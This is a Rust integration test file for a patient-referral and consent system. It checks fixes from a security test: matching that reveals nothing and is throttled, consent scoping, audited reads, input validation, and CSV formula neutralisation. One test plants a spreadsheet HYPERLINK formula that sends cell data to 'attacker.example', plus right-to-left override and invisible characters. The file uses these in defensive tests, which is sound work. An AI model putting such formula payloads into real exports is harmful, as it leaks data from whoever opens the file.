//! Issue 12 (outside security test), the data items: identity matching is no oracle and
//! no key (1), consent is recorded by the team holding the case (2), organisations get
//! only what consent covers (6), access-log scope and audited reads (8), input ranges
//! (10) and CSV cells that cannot become formulas (11).

use crate::fhir::{fhir, service_request};
use crate::helpers::{assert_problem, person_body, spawn_app, Backend, TestApp};
use crate::on_both_databases;
use reqwest::StatusCode;
use serde_json::{json, Value};

const FHIR_JSON: &str = "application/fhir+json";
/// The NHS number of the Patient in `fhir::service_request` (NHS Digital's test number).
const NHS: &str = "9434765919";

/// A person the link worker registered, with details only the team should see.
async fn person_on_file(app: &TestApp) -> Value {
    person_at_practice(app, Some(app.practice_id)).await
}

/// As `person_on_file`; with no practice, each referral goes to the referring team.
async fn person_at_practice(app: &TestApp, practice: Option<i64>) -> Value {
    let mut body = person_body("B25 8DS");
    body["nhs_number"] = json!(NHS);
    body["given_name"] = json!("Pat");
    body["family_name"] = json!("Example");
    body["date_of_birth"] = json!("1950-02-01");
    body["phone"] = json!("07700 900456");
    body["conditions"] = json!(["depression"]);
    body["practice_id"] = json!(practice);
    let (s, person) = app.post("/people", &app.link_worker, body).await;
    assert_eq!(s, StatusCode::CREATED, "{person}");
    person
}

/// A ServiceRequest for the test Patient, born on `born`, as the referrer posts it.
async fn refer(app: &TestApp, identifier: &str, born: &str) -> (StatusCode, Value) {
    let mut request = service_request(identifier);
    request["contained"][0]["birthDate"] = json!(born);
    let (status, body, _) = fhir(
        app,
        "POST",
        "/ServiceRequest",
        Some(&app.referrer),
        Some((FHIR_JSON, request)),
    )
    .await;
    (status, body)
}

async fn user_id(app: &TestApp, token: &str) -> i64 {
    let (_, me) = app.get("/me", token).await;
    me["id"].as_i64().unwrap()
}

/// Audit records of refused identity matches made by this user.
async fn refusals_audited(app: &TestApp, actor: i64) -> Vec<linkwell::audit::AuditRecord> {
    app.store
        .audit_records(0, 100_000)
        .await
        .unwrap()
        .into_iter()
        .filter(|r| r.action == "match_refused" && r.actor_id == Some(actor))
        .collect()
}

on_both_databases!(
    a_refused_match_says_nothing_is_audited_and_is_throttled,
    concurrent_wrong_matches_check_no_more_than_the_limit,
    a_match_never_widens_what_a_referrer_reads,
);

async fn a_refused_match_says_nothing_is_audited_and_is_throttled(backend: Backend) {
    let app = spawn_app(backend).await;
    let person = person_on_file(&app).await;
    let id = person["id"].as_i64().unwrap();
    let referrer = user_id(&app, &app.referrer).await;

    // A wrong birth date and a wrong family name get the same answer, naming nothing.
    let (status, wrong_birth) = refer(&app, "r-1", "1950-02-02").await;
    assert_eq!(status, StatusCode::CONFLICT, "{wrong_birth}");
    assert_eq!(wrong_birth["resourceType"], "OperationOutcome");
    let said = wrong_birth["issue"][0]["diagnostics"].as_str().unwrap();
    let mut wrong_name = service_request("r-2");
    wrong_name["contained"][0]["name"][0]["family"] = json!("Other");
    let (status, body, _) = fhir(
        &app,
        "POST",
        "/ServiceRequest",
        Some(&app.referrer),
        Some((FHIR_JSON, wrong_name)),
    )
    .await;
    assert_eq!(status, StatusCode::CONFLICT);
    assert_eq!(body["issue"][0]["diagnostics"].as_str(), Some(said));
    for leak in [
        id.to_string().as_str(),
        "belongs",
        "registered person",
        "date of birth differs",
    ] {
        assert!(!said.contains(leak), "{said:?} reveals {leak:?}");
    }
    // Registering the number answers alike (no "already registered" oracle).
    let mut again = person_body("B25 8DS");
    again["nhs_number"] = json!(NHS);
    let (status, problem) = app.post("/people", &app.referrer, again.clone()).await;
    assert_problem(status, &problem, StatusCode::CONFLICT);
    assert_eq!(problem["detail"].as_str(), Some(said));

    // Each refusal is audited: who tried, and against whose record; nothing else was written.
    let audited = refusals_audited(&app, referrer).await;
    assert_eq!(audited.len(), 3, "{audited:?}");
    assert!(audited.iter().all(|r| r.person_id == Some(id)));
    assert_eq!(app.count("referrals").await, 0);

    // Two more refusals reach the limit (5 in 15 minutes); then even the right details,
    // and a number nobody has, are refused alike until the window passes.
    for n in 3..5 {
        let (status, _) = refer(&app, &format!("r-{n}"), "1951-01-01").await;
        assert_eq!(status, StatusCode::CONFLICT);
    }
    let (status, body) = refer(&app, "r-right", "1950-02-01").await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS, "{body}");
    assert_eq!(body["issue"][0]["code"], "throttled");
    let mut unknown = service_request("r-new");
    unknown["contained"][0]["identifier"][0]["value"] = json!("4010232137");
    let (status, _, _) = fhir(
        &app,
        "POST",
        "/ServiceRequest",
        Some(&app.referrer),
        Some((FHIR_JSON, unknown)),
    )
    .await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
    let (status, problem) = app.post("/people", &app.referrer, again).await;
    assert_problem(status, &problem, StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(app.count("referrals").await, 0);
    assert_eq!(refusals_audited(&app, referrer).await.len(), 8);

    // The limit is per user: the link worker still refers the person.
    let (status, body, _) = fhir(
        &app,
        "POST",
        "/ServiceRequest",
        Some(&app.link_worker),
        Some((FHIR_JSON, service_request("lw-1"))),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
}

async fn concurrent_wrong_matches_check_no_more_than_the_limit(backend: Backend) {
    let app = spawn_app(backend).await;
    let person = person_on_file(&app).await;
    let referrer = user_id(&app, &app.referrer).await;
    // Thirty birth dates at once, the right one among them: no more than five are ever
    // compared, so the right one is found only if it is among the first five.
    let tries = (0..30).map(|n| {
        let born = if n == 29 {
            "1950-02-01".to_string()
        } else {
            format!("1949-01-{:02}", n + 1)
        };
        let app = &app;
        async move { refer(app, &format!("burst-{n}"), &born).await.0 }
    });
    let answers = futures_util::future::join_all(tries).await;
    let count = |s: StatusCode| answers.iter().filter(|a| **a == s).count();
    let refused = count(StatusCode::CONFLICT);
    let matched = count(StatusCode::CREATED);
    assert_eq!(
        refused + matched + count(StatusCode::TOO_MANY_REQUESTS),
        30,
        "{answers:?}"
    );
    assert_eq!(
        refused, 5,
        "exactly the limit compared and refused: {answers:?}"
    );
    let compared_against_person = refusals_audited(&app, referrer)
        .await
        .iter()
        .filter(|r| r.person_id == person["id"].as_i64())
        .count();
    assert_eq!(compared_against_person, 5);
    assert_eq!(app.count("referrals").await, matched as i64);
}

async fn a_match_never_widens_what_a_referrer_reads(backend: Backend) {
    let app = spawn_app(backend).await;
    let person = person_on_file(&app).await;
    let id = person["id"].as_i64().unwrap();
    // The referrer knows the NHS number, family name and birth date: the referral is made
    // for the person on file...
    let (status, request) = refer(&app, "known-1", "1950-02-01").await;
    assert_eq!(status, StatusCode::CREATED, "{request}");
    assert_eq!(request["subject"]["reference"], format!("Patient/{id}"));
    let referral = request["id"].as_str().unwrap();
    // ...and they see its status, never what others recorded about the person.
    let (status, _) = app.get(&format!("/people/{id}"), &app.referrer).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let (status, _, _) = fhir(
        &app,
        "GET",
        &format!("/Patient/{id}"),
        Some(&app.referrer),
        None,
    )
    .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let (status, bundle, _) = fhir(&app, "GET", "/Patient", Some(&app.referrer), None).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(bundle["total"], 0, "{bundle}");
    let (status, detail) = app
        .get(&format!("/referrals/{referral}"), &app.referrer)
        .await;
    assert_eq!(status, StatusCode::OK, "{detail}");
    assert!(detail.get("casework").is_none());
    let (_, caseload) = app.get("/caseload", &app.referrer).await;
    let row = &caseload[0];
    assert_eq!(
        row["person_name"], "Example",
        "only the family name they matched: {row}"
    );
    assert!(row["imd_decile"].is_null(), "{row}");
    let text = caseload.to_string();
    assert!(
        !text.contains("07700 900456") && !text.contains("Pat Example"),
        "{text}"
    );
    // A person the referrer registered themselves is still theirs to read.
    let (s, own) = app
        .post("/people", &app.referrer, person_body("SW1A 1AA"))
        .await;
    assert_eq!(s, StatusCode::CREATED);
    let (status, _) = app
        .get(&format!("/people/{}", own["id"]), &app.referrer)
        .await;
    assert_eq!(status, StatusCode::OK);
}

on_both_databases!(
    consent_sent_with_a_referral_waits_for_the_team_and_connections_name_theirs,
    an_organisation_is_answered_with_only_what_consent_covers,
);

/// A transaction Bundle for the test Patient whose Consent names the service's
/// organisation and every field, as the referrer in issue 12 sent it.
fn overreaching_bundle(identifier: &str) -> Value {
    let mut consent = crate::fhir::consent_resource(Some("verbal"));
    consent["provision"]["actor"][0]["reference"]["display"] =
        json!(crate::helpers::SERVICE_ORGANISATION);
    consent["provision"]["code"] = json!([
        "name",
        "contact_details",
        "date_of_birth",
        "needs",
        "what_matters"
    ]
    .iter()
    .map(|c| json!({"coding": [{"system": "urn:linkwell:CodeSystem:shared-field", "code": c}]}))
    .collect::<Vec<_>>());
    crate::fhir::transaction(identifier, consent)
}

async fn consent_sent_with_a_referral_waits_for_the_team_and_connections_name_theirs(
    backend: Backend,
) {
    let app = spawn_app(backend).await;
    let person = person_on_file(&app).await;
    let (s, referral) = app
        .post(
            "/referrals",
            &app.link_worker,
            json!({"person_id": person["id"], "referrer_kind": "gp", "reason": "Low mood"}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{referral}");
    let rid = &referral["id"];
    app.post(
        &format!("/referrals/{rid}/contacts"),
        &app.link_worker,
        json!({"mode": "phone", "duration_minutes": 10, "what_matters": "My allotment"}),
    )
    .await;
    // The person agreed to share their needs only.
    let (s, agreed) = app
        .post(
            &format!("/referrals/{rid}/consents"),
            &app.link_worker,
            json!({"organisation": crate::helpers::SERVICE_ORGANISATION, "share": ["needs"], "method": "verbal"}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{agreed}");
    assert_eq!(agreed["status"], "active");

    // A referrer's Bundle then claims consent to share everything with the same organisation.
    let (status, response, _) = fhir(
        &app,
        "POST",
        "",
        Some(&app.referrer),
        Some((FHIR_JSON, overreaching_bundle("bundle-1"))),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{response}");
    let sent = response["entry"][2]["response"]["location"]
        .as_str()
        .unwrap()
        .to_string();
    let sent_id: i64 = sent.trim_start_matches("Consent/").parse().unwrap();
    // It belongs to that referral and waits for the link worker: a valid FHIR "proposed".
    let (status, resource, _) = fhir(
        &app,
        "GET",
        &format!("/{sent}"),
        Some(&app.link_worker),
        None,
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{resource}");
    assert_eq!(resource["status"], "proposed");

    // A connection names its consent: the one agreed is used, whatever arrived later...
    let (s, connection) = app
        .post(
            &format!("/referrals/{rid}/connections"),
            &app.link_worker,
            json!({"service_id": app.service_id, "consent_id": agreed["id"], "notes": "private"}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{connection}");
    let (_, inbox) = app.get("/vcse/connections", &app.vcse).await;
    assert_eq!(inbox[0]["person"], json!({"needs": []}), "{inbox}");
    let text = inbox.to_string();
    for hidden in ["Pat", "07700 900456", "1950", "allotment"] {
        assert!(!text.contains(hidden), "{hidden} shared: {text}");
    }
    // ...a proposed consent cannot be named, and a connection must name one.
    for body in [
        json!({"service_id": app.service_id, "consent_id": sent_id}),
        json!({"service_id": app.service_id}),
    ] {
        let before = app.count("connections").await;
        let (s, p) = app
            .post(
                &format!("/referrals/{rid}/connections"),
                &app.link_worker,
                body,
            )
            .await;
        assert_problem(s, &p, StatusCode::UNPROCESSABLE_ENTITY);
        assert_eq!(app.count("connections").await, before);
    }

    // Only the team holding the case confirms, records or withdraws consent.
    let confirm = format!("/consents/{sent_id}/confirmation");
    let (s, p) = app.post(&confirm, &app.referrer, json!({})).await;
    assert_problem(s, &p, StatusCode::FORBIDDEN);
    let (s, p) = app.post(&confirm, &app.other_team_worker, json!({})).await;
    assert_problem(s, &p, StatusCode::NOT_FOUND);
    let (s, p) = app
        .post(
            &format!("/referrals/{rid}/consents"),
            &app.referrer,
            json!({"organisation": crate::helpers::SERVICE_ORGANISATION, "share": ["name"], "method": "verbal"}),
        )
        .await;
    assert_problem(s, &p, StatusCode::FORBIDDEN);
    // The link worker sees it waiting on the person's page, and confirms it with them.
    let cookie = crate::pages::sign_in_as(&app, "lw").await;
    let (_, html) = crate::pages::page(&app, &cookie, &format!("/people/{}", person["id"])).await;
    assert!(
        html.contains(&format!("action=\"/consents/{sent_id}/confirmation\"")),
        "{html}"
    );
    let (s, confirmed) = app.post(&confirm, &app.link_worker, json!({})).await;
    assert_eq!(s, StatusCode::OK, "{confirmed}");
    assert_eq!(confirmed["status"], "active");
    let (_, resource, _) = fhir(
        &app,
        "GET",
        &format!("/{sent}"),
        Some(&app.link_worker),
        None,
    )
    .await;
    assert_eq!(resource["status"], "active");
    let (s, p) = app.post(&confirm, &app.link_worker, json!({})).await;
    assert_problem(s, &p, StatusCode::CONFLICT);
}

async fn an_organisation_is_answered_with_only_what_consent_covers(backend: Backend) {
    let app = spawn_app(backend).await;
    let (person, referral) = app.person_with_referral("B25 8DS").await;
    let rid = &referral["id"];
    let (s, first) = app
        .post(
            &format!("/referrals/{rid}/connections"),
            &app.link_worker,
            json!({"service_id": app.service_id, "notes": "do not disclose: history of arrears",
                   "consent": {"share": ["name"], "method": "verbal"}}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{first}");
    let (_, second) = app
        .post(
            &format!("/referrals/{rid}/connections"),
            &app.link_worker,
            json!({"service_id": app.service_id, "notes": "do not disclose either",
                   "consent": {"share": ["name"], "method": "verbal"}}),
        )
        .await;
    let (_, inbox) = app.get("/vcse/connections", &app.vcse).await;
    let inbox_line = inbox
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["connection_id"] == first["id"])
        .unwrap()
        .clone();

    // The API answer is the inbox line, moved on: nothing more.
    let (s, answered) = app
        .post(
            &format!("/vcse/connections/{}/status", first["id"]),
            &app.vcse,
            json!({"status": "accepted"}),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{answered}");
    let mut expected = inbox_line;
    expected["status"] = json!("accepted");
    assert_eq!(answered, expected);
    // So is the FHIR Task: no Patient, no ServiceRequest, no note.
    let id = second["id"].as_i64().unwrap();
    let (s, task, _) = fhir(
        &app,
        "PUT",
        &format!("/Task/{id}"),
        Some(&app.vcse),
        Some((FHIR_JSON, json!({"resourceType": "Task", "id": id.to_string(), "status": "accepted", "intent": "order"}))),
    )
    .await;
    assert_eq!(s, StatusCode::OK, "{task}");
    assert_eq!(task["status"], "accepted");
    let text = format!("{answered}{task}");
    for hidden in [
        "disclose".to_string(),
        format!("Patient/{}", person["id"]),
        format!("ServiceRequest/{rid}"),
        "referral_id".to_string(),
    ] {
        assert!(
            !text.contains(&hidden),
            "{hidden} sent to the organisation: {text}"
        );
    }
}

on_both_databases!(the_access_panel_shows_the_team_its_own_and_name_lists_are_audited);

/// Audit records of reads by this user of this person's record.
async fn reads_of(app: &TestApp, actor: i64, person: i64) -> usize {
    app.store
        .accesses_of_person(person, 100_000)
        .await
        .unwrap()
        .iter()
        .filter(|(r, _)| r.actor_id == Some(actor) && r.action == "read")
        .count()
}

async fn the_access_panel_shows_the_team_its_own_and_name_lists_are_audited(backend: Backend) {
    let app = spawn_app(backend).await;
    let person = person_at_practice(&app, None).await;
    let id = person["id"].as_i64().unwrap();
    // Team A's referral, then another team refers the same person (matched by NHS number)
    // and reads their record.
    let (s, referral) = app
        .post(
            "/referrals",
            &app.link_worker,
            json!({"person_id": id, "referrer_kind": "gp", "reason": "Low mood"}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED);
    let (status, _, _) = fhir(
        &app,
        "POST",
        "/ServiceRequest",
        Some(&app.other_team_worker),
        Some((FHIR_JSON, service_request("team-b-1"))),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED);
    let (status, _) = app
        .get(&format!("/people/{id}"), &app.other_team_worker)
        .await;
    assert_eq!(status, StatusCode::OK);
    let other = user_id(&app, &app.other_team_worker).await;
    assert!(
        reads_of(&app, other, id).await > 0,
        "the other team's read is in the log"
    );

    // Team A's panel shows Team A's entries only.
    let cookie = crate::pages::sign_in_as(&app, "lw").await;
    let (status, html) = crate::pages::page(&app, &cookie, &format!("/people/{id}")).await;
    assert_eq!(status, StatusCode::OK);
    let panel = &html[html.find("id=\"access-heading\"").unwrap()..];
    assert!(panel.contains("lw (Link worker)"), "{panel}");
    assert!(
        !panel.contains("lw-b"),
        "another team's entries shown: {panel}"
    );

    // Naming the person on /directory?referral=N is an audited read...
    let lw = app.link_worker_id;
    let before = reads_of(&app, lw, id).await;
    let (status, html) = crate::pages::page(
        &app,
        &cookie,
        &format!("/directory?referral={}", referral["id"]),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert!(html.contains("Pat Example"), "the page names the person");
    assert_eq!(reads_of(&app, lw, id).await, before + 1);

    // ...and so is listing the people waiting on /team.
    app.store
        .set_password("lead", crate::helpers::LINK_WORKER_PASSWORD)
        .await
        .unwrap();
    let lead = user_id(&app, &app.team_lead).await;
    let before = reads_of(&app, lead, id).await;
    let cookie = crate::pages::sign_in_as(&app, "lead").await;
    let (status, html) = crate::pages::page(&app, &cookie, "/team").await;
    assert_eq!(status, StatusCode::OK);
    assert!(html.contains("Pat Example"), "{html}");
    assert_eq!(reads_of(&app, lead, id).await, before + 1);
}

on_both_databases!(csv_cells_never_become_spreadsheet_formulas);

/// The cells of a CSV file, parsed as a spreadsheet would split them.
fn cells(csv: &str) -> Vec<String> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.as_bytes())
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect()
}

async fn csv_cells_never_become_spreadsheet_formulas(backend: Backend) {
    let app = spawn_app(backend).await;
    // A practice whose name is a formula, with a referral so it shows in the equity report.
    let (_, me) = app.get("/me", &app.link_worker).await;
    let formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Open\")";
    let practice = app
        .store
        .create_practice("M00666", formula, None, me["team_id"].as_i64())
        .await
        .unwrap();
    let mut body = person_body("B25 8DS");
    body["practice_id"] = json!(practice);
    let (s, person) = app.post("/people", &app.link_worker, body).await;
    assert_eq!(s, StatusCode::CREATED, "{person}");
    let (s, _) = app
        .post(
            "/referrals",
            &app.link_worker,
            json!({"person_id": person["id"], "referrer_kind": "gp", "reason": "Isolated"}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED);
    let cookie = crate::pages::sign_in_as(&app, "analyst").await;
    let (status, csv) = crate::pages::page(&app, &cookie, "/reports/equity/download.csv").await;
    assert_eq!(status, StatusCode::OK);
    let report = cells(&csv);
    assert!(
        report.iter().any(|c| c == &format!("'{formula}")),
        "the practice name, neutralised: {csv}"
    );
    for cell in &report {
        let number = cell.parse::<f64>().is_ok();
        assert!(
            number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell a spreadsheet would run: {cell:?}"
        );
    }

    // The audit export: a request id may begin with "-".
    let response = app
        .client
        .get(format!("{}/api/v1/people/{}", app.address, person["id"]))
        .bearer_auth(&app.link_worker)
        .header("x-request-id", "-A1-cmd")
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let export = std::process::Command::new(env!("CARGO_BIN_EXE_linkwell"))
        .args(["audit", "export", "--database-url", &app.database_url])
        .output()
        .unwrap();
    assert!(export.status.success());
    let exported = cells(&String::from_utf8_lossy(&export.stdout));
    assert!(exported.iter().any(|c| c == "'-A1-cmd"), "{exported:?}");
    assert!(!exported.iter().any(|c| c == "-A1-cmd"));
}

on_both_databases!(out_of_range_dates_hidden_characters_and_foreign_phones_are_refused);

async fn out_of_range_dates_hidden_characters_and_foreign_phones_are_refused(backend: Backend) {
    let app = spawn_app(backend).await;
    let (_, referral) = app.person_with_referral("B25 8DS").await;
    let rid = &referral["id"];
    let before = app.count("contacts").await + app.count("measures").await;
    let refused = |path: String, body: Value, field: &'static str, why: &'static str| {
        let app = &app;
        async move {
            let (s, p) = app.post(&path, &app.link_worker, body).await;
            assert_problem(s, &p, StatusCode::UNPROCESSABLE_ENTITY);
            assert_eq!(p["field"], field, "{p}");
            let detail = p["detail"].as_str().unwrap();
            assert!(detail.contains(why), "{why:?} in {detail:?}");
        }
    };
    let contacts = format!("/referrals/{rid}/contacts");
    let measures = format!("/referrals/{rid}/measures");
    refused(
        contacts.clone(),
        json!({"mode": "phone", "duration_minutes": 5, "at": "0001-01-01T10:00:00Z"}),
        "at",
        "on or after 2000-01-01",
    )
    .await;
    refused(
        contacts.clone(),
        json!({"mode": "phone", "duration_minutes": 5, "at": "9999-12-31T10:00:00Z"}),
        "at",
        "before it happens",
    )
    .await;
    refused(
        contacts.clone(),
        json!({"mode": "phone", "duration_minutes": 5, "follow_up_on": "9999-12-31"}),
        "follow_up_on",
        "within 730 days",
    )
    .await;
    refused(
        contacts.clone(),
        json!({"mode": "phone", "duration_minutes": 5, "follow_up_on": "0001-01-01"}),
        "follow_up_on",
        "too long ago",
    )
    .await;
    refused(
        contacts.clone(),
        json!({"mode": "phone", "duration_minutes": 5, "notes": "ok\u{0000}"}),
        "notes",
        "U+0000",
    )
    .await;
    refused(measures.clone(), json!({"instrument": "ucla3", "timing": "baseline", "answers": [1, 2, 3], "taken_on": "0001-01-01"}), "taken_on", "on or after 2000-01-01").await;
    refused(measures, json!({"instrument": "ucla3", "timing": "baseline", "answers": [1, 2, 3], "taken_on": "9999-12-31"}), "taken_on", "in the future").await;
    assert_eq!(
        app.count("contacts").await + app.count("measures").await,
        before
    );

    // Names with control or right-to-left override characters, and phones that are not UK.
    let people = app.count("people").await;
    for (field, value, why) in [
        ("family_name", "Lovelace\u{202E}", "U+202E"),
        ("given_name", "Ada\u{0000}", "U+0000"),
        ("given_name", "Ada\nLovelace", "U+000A"),
        // Invisible characters (retest finding F4).
        ("family_name", "Love\u{200B}lace", "U+200B"),
        ("family_name", "Love\u{200D}lace", "U+200D"),
        ("family_name", "\u{FEFF}Lovelace", "U+FEFF"),
        ("given_name", "Ada\u{2028}Byron", "U+2028"),
        ("phone", "07700\u{202E}900123", "U+202E"),
        ("phone", "+1 202 555 0100", "UK phone number"),
        ("phone", "555-0100", "UK phone number"),
        ("date_of_birth", "1899-12-31", "on or after 1900-01-01"),
    ] {
        let mut body = person_body("B25 8DS");
        body[field] = json!(value);
        let (s, p) = app.post("/people", &app.link_worker, body).await;
        assert_problem(s, &p, StatusCode::UNPROCESSABLE_ENTITY);
        assert_eq!(p["field"], field, "{p}");
        assert!(p["detail"].as_str().unwrap().contains(why), "{why} in {p}");
    }
    let mut uk = person_body("B25 8DS");
    uk["phone"] = json!("+44 (0)121 496 0000");
    let (s, p) = app.post("/people", &app.link_worker, uk).await;
    assert_eq!(s, StatusCode::CREATED, "{p}");
    assert_eq!(app.count("people").await, people + 1);

    // The same rules on FHIR: a Patient's name and phone, and a search offset past the bound.
    let mut request = service_request("bidi-1");
    request["contained"][0]["name"][0]["family"] = json!("Example\u{202E}");
    let (s, outcome, _) = fhir(
        &app,
        "POST",
        "/ServiceRequest",
        Some(&app.referrer),
        Some((FHIR_JSON, request)),
    )
    .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{outcome}");
    assert_eq!(outcome["resourceType"], "OperationOutcome");
    for offset in ["18446744073709551615", "10001"] {
        let (s, outcome, _) = fhir(
            &app,
            "GET",
            &format!("/Patient?_offset={offset}"),
            Some(&app.link_worker),
            None,
        )
        .await;
        assert_eq!(s, StatusCode::BAD_REQUEST, "{outcome}");
        assert_eq!(outcome["resourceType"], "OperationOutcome");
        assert!(outcome.to_string().contains("0 to 10000"), "{outcome}");
    }
    let (s, _, _) = fhir(
        &app,
        "GET",
        "/Patient?_offset=10000&_count=500",
        Some(&app.link_worker),
        None,
    )
    .await;
    assert_eq!(s, StatusCode::OK);
}

on_both_databases!(the_connect_form_rests_on_the_consent_chosen);

async fn the_connect_form_rests_on_the_consent_chosen(backend: Backend) {
    let app = spawn_app(backend).await;
    let (_, referral) = app.person_with_referral("B25 8DS").await;
    let rid = referral["id"].as_i64().unwrap();
    // Consent to share needs only, given earlier; a later one (name too) for the same
    // organisation must not be the one used just because it is newer.
    let (_, needs_only) = app
        .post(
            &format!("/referrals/{rid}/consents"),
            &app.link_worker,
            json!({"organisation": crate::helpers::SERVICE_ORGANISATION, "share": ["needs"], "method": "written"}),
        )
        .await;
    app.consent_to_share(&json!(rid), &app.link_worker).await;
    let cookie = crate::pages::sign_in_as(&app, "lw").await;
    let path = format!(
        "/directory/services/linkwell-service-{}?referral={rid}",
        app.service_id
    );
    let (status, html) = crate::pages::page(&app, &cookie, &path).await;
    assert_eq!(status, StatusCode::OK);
    let offered = format!("name=\"consent_id\" value=\"{}\"", needs_only["id"]);
    assert!(html.contains(&offered), "{html}");
    let response = crate::pages::post_form(
        &app,
        &cookie,
        &format!("/referrals/{rid}/connections"),
        &[
            ("csrf", crate::pages::csrf_of(&html)),
            ("service_id", app.service_id.to_string()),
            ("consent_id", needs_only["id"].to_string()),
            ("notes", String::new()),
        ],
    )
    .await;
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
    let (_, inbox) = app.get("/vcse/connections", &app.vcse).await;
    assert_eq!(inbox[0]["person"], json!({"needs": []}), "{inbox}");
}

on_both_databases!(another_team_holding_a_referral_never_reads_this_teams_consent);

/// Retest finding F3: a second team that refers a person already on file (matching their
/// NHS number, name and birth date) read the first team's consent to share. A consent is
/// the recording team's casework.
async fn another_team_holding_a_referral_never_reads_this_teams_consent(backend: Backend) {
    let app = spawn_app(backend).await;
    let person = person_at_practice(&app, None).await;
    let id = person["id"].as_i64().unwrap();
    let (status, referral) = app
        .post(
            "/referrals",
            &app.link_worker,
            json!({"person_id": id, "referrer_kind": "gp", "reason": "Lonely"}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{referral}");
    let consent = app
        .consent_to_share(&referral["id"], &app.link_worker)
        .await;
    let (status, theirs, _) = fhir(
        &app,
        "POST",
        "/ServiceRequest",
        Some(&app.other_team_worker),
        Some((FHIR_JSON, service_request("other-team-1"))),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{theirs}");
    assert_eq!(theirs["subject"]["reference"], format!("Patient/{id}"));
    let search = format!("/Consent?patient=Patient/{id}");
    let (status, bundle, _) = fhir(&app, "GET", &search, Some(&app.other_team_worker), None).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(bundle["total"], 0, "{bundle}");
    let read = format!("/Consent/{}", consent["id"]);
    let (status, _, _) = fhir(&app, "GET", &read, Some(&app.other_team_worker), None).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    // The team that recorded it still reads it.
    let (_, bundle, _) = fhir(&app, "GET", &search, Some(&app.link_worker), None).await;
    assert_eq!(bundle["total"], 1, "{bundle}");
}
